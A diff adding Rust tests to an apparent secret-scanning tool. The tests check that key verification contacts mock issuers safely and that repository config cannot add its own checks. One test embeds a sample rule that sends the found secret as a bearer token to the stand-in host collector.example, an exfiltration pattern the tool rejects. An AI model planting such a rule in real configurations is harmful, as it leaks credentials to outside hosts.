@@ -1160,3 +1160,134 @@ fn scan_verify_gives_up_on_a_slow_provider_as_configured() {
     assert_eq!(jsonl(&out.stdout)[0]["verified"], "unknown");
     assert!(stderr(&out).contains("timed out"));
 }
+
+// ---- issuers without a client: the checks their built-in rules describe -----------------
+
+/// The answer a mock issuer gives for each verdict the check should reach.
+fn issuer_reply(status: u16) -> Reply {
+    match status {
+        200 => Reply::json(200, json!({"id": "acct_1", "object": "account"})),
+        status => Reply::json(status, json!({"error": "the issuer's own words"})),
+    }
+}
+
+#[test]
+fn every_rule_check_asks_its_issuer_once_with_the_key_in_its_header_and_reads_the_answer() {
+    use keywarden::core::rules::template::{expand, KeyRng};
+    use keywarden::core::rules::RuleSet;
+    let rules = RuleSet::builtin().expect("built-in rules");
+    let checked: Vec<_> = rules
+        .rules()
+        .iter()
+        .filter(|r| r.verify.is_some())
+        .collect();
+    assert!(checked.len() >= 20, "{} rules with a check", checked.len());
+    let sb = Sandbox::new();
+    let mut rng = KeyRng::new(11);
+    for rule in checked {
+        let probe = rule.verify.as_ref().expect("filtered on it");
+        let example = expand(&rule.examples[0], &mut rng).expect("a valid example");
+        let key = example
+            .secret()
+            .expect("examples mark their secret")
+            .to_string();
+        sb.write("settings.txt", format!("{}\n", example.text));
+        let documented = probe
+            .url
+            .strip_prefix("https://")
+            .and_then(|rest| rest.find('/').map(|slash| rest[slash..].to_string()))
+            .unwrap_or_else(|| "/".to_string());
+        let variable = format!(
+            "KEYWARDEN_{}_BASE_URL",
+            rule.provider.to_ascii_uppercase().replace('-', "_")
+        );
+        for (status, verdict) in [(200, "live"), (probe.dead[0], "dead"), (500, "unknown")] {
+            let server = MockServer::start(move |_| issuer_reply(status));
+            let out = sb
+                .keywarden()
+                .args(["scan", "--verify", "--format", "jsonl", "settings.txt"])
+                .env(&variable, server.url())
+                .env("KEYWARDEN_HTTP_TIMEOUT_MS", "5000")
+                .assert()
+                .code(1)
+                .get_output()
+                .clone();
+            let rows = jsonl(&out.stdout);
+            let row = rows
+                .iter()
+                .find(|row| row["rule_id"] == rule.id.as_str())
+                .unwrap_or_else(|| panic!("{}: no finding in {rows:?}", rule.id));
+            assert_eq!(row["verified"], verdict, "{}: HTTP {status}", rule.id);
+            let seen = server.requests();
+            assert_eq!(seen.len(), 1, "{}: asked once: {seen:?}", rule.id);
+            let request = &seen[0];
+            assert_eq!(request.method, "GET", "{}", rule.id);
+            assert_eq!(request.url, documented, "{}", rule.id);
+            assert!(
+                !request.url.contains(&key),
+                "{}: the key is in the URL",
+                rule.id
+            );
+            for (name, value) in &probe.headers {
+                assert_eq!(
+                    request.header(name),
+                    Some(value.replace("{secret}", &key).as_str()),
+                    "{}: header {name}",
+                    rule.id
+                );
+            }
+            let stderr = stderr(&out);
+            assert!(!stderr.contains(&key), "{}: {stderr}", rule.id);
+            if verdict == "unknown" {
+                assert!(stderr.contains("could not verify"), "{stderr}");
+            } else {
+                assert!(
+                    stderr.contains(&format!("contacting {}", rule.provider)),
+                    "{stderr}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn a_repository_rule_may_not_carry_a_check() {
+    let sb = Sandbox::new();
+    sb.write(
+        ".keywarden.toml",
+        "[[rule]]\nid = \"exfil\"\nprovider = \"acme\"\ndescription = \"Acme key\"\nregex = 'acme_[a-z0-9]{20}'\nverify = { url = \"https://collector.example/k\", headers = { Authorization = \"Bearer {secret}\" }, dead = [401] }\n",
+    );
+    sb.run(["scan", "--verify"])
+        .code(2)
+        .one_line_error("`verify` is allowed only in keywarden's built-in rules");
+}
+
+#[test]
+fn a_key_of_an_issuer_without_a_client_is_checked_by_its_rule_in_keys_check() {
+    use keywarden::core::rules::template::{expand, KeyRng};
+    let sb = Sandbox::new();
+    let key = expand("«SG.{alnum:22}.{alnum:43}»", &mut KeyRng::new(5))
+        .expect("a valid template")
+        .secret()
+        .expect("marked")
+        .to_string();
+    for (status, verdict, code) in [(200, "is live", 1), (401, "is dead", 0)] {
+        let expected = key.clone();
+        let server = MockServer::start(move |req| {
+            if req.is("GET", "/v3/scopes") && bearer(req).as_deref() == Some(expected.as_str()) {
+                issuer_reply(status)
+            } else {
+                Reply::not_found()
+            }
+        });
+        let ran = sb
+            .run(["keys", "check", "--secret-stdin"])
+            .stdin(format!("{key}\n"))
+            .env("KEYWARDEN_SENDGRID_BASE_URL", server.url())
+            .code(code);
+        let text = ran.text();
+        assert!(text.contains(verdict), "{text}");
+        assert!(!text.contains(&key), "{text}");
+        assert_eq!(server.requests().len(), 1);
+    }
+}
